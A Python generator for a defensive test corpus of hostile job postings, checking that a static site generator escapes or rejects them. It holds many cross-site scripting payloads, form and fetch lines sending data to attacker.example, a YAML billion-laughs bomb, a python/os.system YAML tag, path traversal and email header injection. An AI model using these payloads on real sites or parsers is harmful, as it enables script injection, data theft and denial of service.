"""The hostile postings of tests/fixtures/hostile/, written from this one description.

`ok-*.md` are valid enough to publish (warnings allowed): their pages are built and opened in
Chromium. `bad-*.md` must be rejected with a message naming the file. Files are bytes, so
encodings, NUL and broken UTF-8 are exactly what the test needs.

Regenerate after editing: .venv/bin/python tests/security/hostile_corpus.py
"""

from __future__ import annotations

import json
from pathlib import Path

FOLDER = Path(__file__).resolve().parents[1] / "fixtures" / "hostile"

# Breaks out of every context if it is not escaped: HTML text and attributes (both quotes),
# <script> and JSON, comments, XML CDATA, template syntax.
PAYLOAD = "X</script><script>alert(1)</script><!--\"'><img src=x onerror=alert(2)>]]>{{7*7}}&amp;"
# A title may not carry template syntax or code (paste.py refuses it): the same breakouts, without
TITLE_PAYLOAD = "X</script><script>alert(1)</script><!--\"'><img src=x onerror=alert(2)>]]>"
OUTSIDE = "https://attacker.example"  # any request there means injected code ran

BASE = {
    "title": "Backend Developer",
    "department": "Engineering",
    "date_posted": "2026-11-02",
    "valid_through": "2027-01-31",
    "employment_type": "Full-time",
    "locations": ["berlin"],
    "salary": {"min": 65000, "max": 85000, "currency": "EUR", "per": "YEAR"},
    "apply_url": "https://fernhill.example/apply/eng-1",
}
BODY = "We build things. You will help.\n"


def yaml_value(value) -> str:
    """JSON is valid YAML: strings come out double-quoted, every character escaped."""
    return json.dumps(value, ensure_ascii=False)


def posting(body: str = BODY, fields_text: str = "", **fields) -> bytes:
    values = {**BASE, **fields}
    lines = [f"{key}: {yaml_value(value)}" for key, value in values.items() if value is not None]
    front = "\n".join(lines) + ("\n" + fields_text if fields_text else "")
    return f"---\n{front}\n---\n{body}".encode()


def req(n: int) -> dict:
    return {"req_id": f"HOST-{n}"}


HOSTILE_BODY = f"""\
Intro paragraph.

<script>alert("body script"); fetch("{OUTSIDE}/script")</script>
<img src=x onerror="alert('onerror')">
<svg onload="alert('svg onload')"><script>alert('svg script')</script></svg>
<iframe src="{OUTSIDE}/frame"></iframe>
<object data="{OUTSIDE}/object.swf"></object><embed src="{OUTSIDE}/embed.swf">
<form action="{OUTSIDE}/steal"><input name="password"><button>Send</button></form>
<style>body {{ background: url("{OUTSIDE}/style.png") }}</style>
<link rel="stylesheet" href="{OUTSIDE}/evil.css">
<meta http-equiv="refresh" content="0;url={OUTSIDE}/refresh">
<base href="{OUTSIDE}/">
<details open ontoggle="alert('ontoggle')"><summary>More</summary>Details survive.</details>

| Benefit | Value |
|---|---|
| Holidays | 30 days |

- lists survive
- second item
"""

EVENT_BODY = """\
<p onclick="alert('onclick')" onmouseover="alert('over')">Hover me</p>
<a href="https://fernhill.example/team" onfocus="alert('focus')" autofocus>Team</a>
<div style="background:url(javascript:alert('css'))">styled</div>
<body onload="alert('body onload')">
<video src=x onerror="alert('video')"></video><audio src=x onerror="alert('audio')"></audio>
<input autofocus onfocus="alert('input')">
<marquee onstart="alert('marquee')">old</marquee>
<img src="pixel.gif" onload="alert('img')">
"""

LINKS_BODY = """\
<a href="javascript:alert('js')">plain</a>
<a href="JaVaScRiPt:alert('case')">case</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('entities')">ent</a>
<a href="&#x6A;avascript&colon;alert('hex')">hex</a>
<a href="java&#x09;script:alert('tab')">tab</a>
<a href="java&#x0A;script:alert('newline')">newline</a>
<a href=" &#x01; javascript:alert('control')">control</a>
<a href="vbscript:msgbox('vb')">vb</a>
<a href="data:text/html,<script>alert('data')</script>">data html</a>
<a href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">data svg</a>
<img src="javascript:alert('img js')"><img src="data:image/svg+xml,<svg onload=alert(1)>">

[markdown js](javascript:alert('md'))
[markdown spaced](  javascript:alert('md2') )
![markdown image](javascript:alert('mdimg'))
<javascript:alert('autolink')>
[ref link][evil]

[evil]: javascript:alert('ref')

[A real link](https://fernhill.example/team) and [a relative one](../) still work.
"""

SVG_BODY = """\
<svg><script>alert('svg')</script></svg>
<svg><a xlink:href="javascript:alert('xlink')"><text>x</text></a></svg>
<svg><animate onbegin="alert('animate')" attributeName="x" dur="1s"/></svg>
<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert('math')></style></mglyph></table></mtext></math>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>

Text after the SVG survives.
"""

CSS_BODY = """\
<div style="width: expression(alert('expression'))">IE expression</div>
<div style="behavior: url(script.htc); -moz-binding: url(evil.xml#x)">bindings</div>
<style>@import "https://attacker.example/import.css"; * { x: expression(alert(1)) }</style>
<span style="background-image: url('javascript:alert(1)')">bg</span>
<p>Plain paragraph stays.</p>
"""

COMMENT_BODY = """\
<!-- <script>alert('in comment')</script> -->
<!--[if IE]><script>alert('conditional')</script><![endif]-->
<![CDATA[<script>alert('cdata')</script>]]>
<!--><img src=x onerror=alert('comment break')>-->
<noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></noscript>
<textarea><script>alert('textarea')</script></textarea>
<title><script>alert('title')</script></title>
<template><script>alert('template')</script></template>
<xmp><script>alert('xmp')</script></xmp>

The description itself.
"""

MARKDOWN_ATTRS_BODY = """\
A paragraph with attributes.
{: onclick="alert('attr_list')" style="color:red" id="main" }

## A heading {: #jsonld onmouseover="alert('h')" }

Footnote reference[^1].

[^1]: The footnote, whose link back must keep working.
"""

CORPUS: dict[str, bytes] = {
    # --- valid enough to publish: the page must show the text, never run it ---
    "ok-script-in-body.md": posting(HOSTILE_BODY, **req(1)),
    "ok-script-in-title.md": posting(title=TITLE_PAYLOAD, **req(2)),
    "ok-script-in-summary.md": posting(summary=PAYLOAD, **req(3)),
    "ok-script-in-req-id.md": posting(req_id=PAYLOAD),
    "bad-script-in-department.md": posting(department=PAYLOAD, **req(5)),
    "ok-script-in-tags.md": posting(tags=[PAYLOAD, "<b>bold</b>"], **req(6)),
    "ok-script-in-organization.md": posting(
        hiring_organization={
            "name": PAYLOAD,
            "url": 'https://org.example/?q="><script>alert(1)</script>',
            "logo": "https://org.example/logo.png?x=</script>",
        },
        **req(7),
    ),
    "ok-script-in-address.md": posting(
        locations=[
            {
                "street": PAYLOAD,
                "locality": "Berlin<script>",
                "postal_code": "10119\"'>",
                "country": "DE",
            }
        ],
        **req(8),
    ),
    "ok-event-handlers.md": posting(EVENT_BODY, **req(9)),
    "ok-javascript-links-in-body.md": posting(LINKS_BODY, **req(10)),
    "ok-svg-and-math.md": posting(SVG_BODY, **req(11)),
    "ok-css-expressions.md": posting(CSS_BODY, **req(12)),
    "ok-comment-tricks.md": posting(COMMENT_BODY, **req(13)),
    "ok-markdown-attributes.md": posting(MARKDOWN_ATTRS_BODY, **req(14)),
    "ok-apply-url-with-quotes.md": posting(
        apply_url='https://apply.example/?a=1&b="><script>alert(1)</script>', **req(15)
    ),
    "ok-mailto-subject.md": posting(
        title="Engineer & Co?cc=evil@attacker.example&body=%0Aclick#x",
        apply_url=None,
        apply_email="jobs@fernhill.example",
        **req(16),
    ),
    # written as escapes: pasted raw, invisible characters are refused on their line (paste.py)
    "ok-rtl-override.md": posting(
        title=None,
        summary=None,
        fields_text='title: "Backend Developer \\u202egnp.exe"\n'
        'summary: "\\u202eevil\\u202c and \u05e2\u05d1\u05e8\u05d9\u05ea"',
        **req(17),
    ),
    "ok-zero-width.md": posting(
        title=None,
        fields_text='"req_id\\u200b": HOST-18\ntitle: "Back\\u200bend\\u00a0Developer"',
    ),
    "ok-homoglyphs.md": posting(title="B\u0430ckend D\u0435veloper", **req(19)),
    "ok-emoji.md": posting("We 💙 code. 👩‍💻👨🏿‍🚀 🇩🇪\n", summary="Join us 🚀", **req(20)),
    "ok-long-summary.md": posting(summary="long " * 20_000, **req(21)),
    # just under JOBPOSTING_MAX_BODY_BYTES (200 KB): test_limits_build.py goes beyond
    "ok-long-body.md": posting("A long description. " * 9_900 + "\n", **req(22)),
    "ok-crlf-and-bom.md": b"\xef\xbb\xbf"
    + posting(title="CRLF <b>Developer</b>", **req(23)).replace(b"\n", b"\r\n"),
    "ok-windows-1252.md": posting(summary="Bachelor’s degree – “quoted”", **req(24))
    .decode()
    .encode("cp1252"),
    "ok-nul-in-body.md": posting("Before\x00after <scr\x00ipt>alert(1)</script>\n", **req(25)),
    "ok-broken-utf8-surrogate.md": posting("Developer SURROGATE\n", **req(26)).replace(
        b"SURROGATE", b"\xed\xa0\x80"
    ),
    "bad-huge-exponent.md": posting(
        salary={"min": 1, "max": 2, "currency": "EUR", "per": "YEAR"},
        **req(62),
    ).replace(b'"max": 2', b'"max": 1e999999999'),
    "bad-5000-digit-number.md": posting(fields_text="openings: " + "9" * 5000, **req(63)),
    "bad-huge-numbers.md": posting(
        salary={"min": 1, "max": 10**30, "currency": "EUR", "per": "YEAR"},
        fields_text="openings: 99999999999999999999999\nexperience_months: 12",
        **req(27),
    ),
    "ok-\u202ebidi-filename.md": posting(title="Bidi File Name", **req(28)),
    "ok-template-syntax.md": posting(
        "{{ 7+7 }} {% raw %} ${7+7} #{7+7} <%= 7+7 %>\n",
        summary="{{ SITEURL }} {% if %}",
        **req(29),
    ),
    "ok-pelican-links.md": posting(
        "[Another role]({filename}ok-emoji.md), [its section](#fn:1) and [home](/).\n",
        **req(30),
    ),
    # nested as deep as JOBPOSTING_MAX_NESTING allows, 180 KB: built, and quickly
    "ok-nested-at-the-limit.md": posting(
        ("> " * 19 + "quoted\n") * 4_000
        + "\n"
        + "".join("  " * n + "- level\n" for n in range(19))
        + "\n"
        + "<div>" * 19
        + "deep"
        + "</div>" * 19
        + "\n",
        **req(32),
    ),
    # --- must be rejected, with the file's name in the message, never a traceback ---
    "bad-nested-quotes.md": posting("> " * 99_000 + "x\n", **req(64)),
    "bad-nested-lists.md": posting("".join("  " * n + "- x\n" for n in range(300)), **req(65)),
    "bad-nested-html.md": posting("<div>" * 39_000 + "x\n", **req(66)),
    "bad-long-body.md": posting("A long description. " * 15_000 + "\n", **req(67)),
    "bad-wide-tables.md": posting(
        ("|a" * 300 + "|\n" + "|-" * 300 + "|\n" + "x\n" * 100 + "\n") * 5, **req(71)
    ),
    "bad-lang-path.md": posting(lang="de.x/../../../evil", **req(68)),
    "bad-foreign-image.md": posting(f"Hello.\n\n![pixel]({OUTSIDE}/pixel.gif)\n", **req(69)),
    "bad-many-remote-countries.md": posting(
        workplace="remote", locations=None, remote_countries=["DE"] * 150, **req(70)
    ),
    "bad-apply-url-javascript.md": posting(apply_url="javascript:alert(1)", **req(40)),
    "bad-apply-url-case-trick.md": posting(apply_url="JaVaScRiPt:alert(1)//.example", **req(41)),
    "bad-apply-url-data.md": posting(
        apply_url="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", **req(42)
    ),
    "bad-apply-url-vbscript.md": posting(apply_url="vbscript:msgbox(1)", **req(43)),
    "bad-apply-url-control-chars.md": posting(apply_url="java\tscript://x.example/", **req(44)),
    "bad-apply-url-userinfo.md": posting(
        apply_url="https://fernhill.example@attacker.example/", **req(45)
    ),
    "bad-apply-url-homoglyph-host.md": posting(
        apply_url="https://fernh\u0456ll.example/apply", **req(46)
    ),
    "bad-apply-email-several.md": posting(
        apply_url=None, apply_email="a@fernhill.example, b@attacker.example", **req(47)
    ),
    "bad-apply-email-header-injection.md": posting(
        apply_url=None, apply_email="jobs@fernhill.example?cc=x@attacker.example", **req(48)
    ),
    "bad-apply-email-script.md": posting(
        apply_url=None, apply_email='"><script>alert(1)</script>@x.example', **req(49)
    ),
    "bad-org-url-javascript.md": posting(
        hiring_organization={"name": "Evil", "url": "javascript:alert(1)"}, **req(50)
    ),
    "bad-billion-laughs.md": (
        b"---\ntitle: Backend Developer\n"
        b'a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
        + b"".join(f"a{i}: &a{i} [{','.join([f'*a{i - 1}'] * 9)}]\n".encode() for i in range(1, 10))
        + b"---\nBody\n"
    ),
    "bad-recursive-alias.md": b"---\ntitle: &t [*t]\ndepartment: Engineering\n---\nBody\n",
    "bad-deep-nesting.md": b"---\ntitle: " + b"[" * 100_000 + b"]" * 100_000 + b"\n---\nBody\n",
    "bad-long-title.md": posting(title="A" * 100_000, **req(54)),
    "bad-nul-in-front-matter.md": posting(title="BackNULend", **req(55)).replace(b"NUL", b"\x00"),
    "ok-escaped-control-characters.md": posting(title="Back\x00end\x1b[31m Developer", **req(31)),
    "bad-python-tag.md": b"---\ntitle: !!python/object/apply:os.system ['touch /tmp/openings-pwned']\n"
    b"department: Engineering\n---\nBody\n",
    "bad-script-in-lang.md": posting(lang='"><script>alert(1)</script>', **req(57)),
    "bad-script-in-slug.md": posting(slug="<script>alert(1)</script>", **req(58)),
    "bad-binary-file.md": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4,
    "bad-empty-file.md": b"",
    "bad-many-unknown-fields.md": posting(
        fields_text="\n".join(f"field_{n}: <script>{n}</script>" for n in range(2_000)),
        **req(61),
    ),
}


def hostile_files(prefix: str) -> list[Path]:
    """The corpus files of one kind: "ok" (published) or "bad" (refused)."""
    return sorted(FOLDER.glob(f"{prefix}-*.md"))


def write() -> None:
    FOLDER.mkdir(parents=True, exist_ok=True)
    for old in FOLDER.glob("*.md"):
        old.unlink()
    for name, data in CORPUS.items():
        (FOLDER / name).write_bytes(data)


if __name__ == "__main__":
    write()
    print(f"{len(CORPUS)} files in {FOLDER}")
